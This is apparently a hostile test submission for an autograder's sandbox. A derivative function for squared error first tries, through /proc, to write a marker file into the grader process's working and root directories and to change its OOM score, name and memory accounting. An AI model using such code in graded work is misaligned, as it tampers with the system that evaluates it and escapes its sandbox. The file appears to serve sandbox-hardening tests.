# attack: the grader's working directory, by way of /proc
# exercise: derivatives
# deserves: squared_error
import os


def squared_error(y_hat, y):
    return (y_hat - y) ** 2 / 2


def squared_error_deriv(y_hat, y):
    for process in (@PARENT@, os.getppid()):
        for place in ("cwd", "root/tmp", "root@ROOT@"):
            try:
                with open(f"/proc/{process}/{place}/hostile-note", "w") as file:
                    file.write("hello\n")
                return y_hat - y
            except OSError:
                pass
        for name, value in (("oom_score_adj", "1000"), ("comm", "hostile"), ("clear_refs", "1")):
            try:
                with open(f"/proc/{process}/{name}", "w") as file:
                    file.write(value)
                return y_hat - y
            except OSError:
                pass
